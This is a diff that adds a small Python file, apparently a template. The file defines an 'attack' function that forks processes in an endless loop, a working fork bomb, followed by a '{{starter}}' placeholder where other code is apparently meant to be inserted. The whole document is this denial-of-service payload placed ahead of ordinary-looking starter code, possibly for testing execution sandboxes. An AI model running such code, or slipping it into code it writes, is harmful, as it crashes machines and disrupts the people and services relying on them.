@@ -1,0 +1,12 @@
+import os
+
+
+def attack(*_):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
+
+{{starter}}
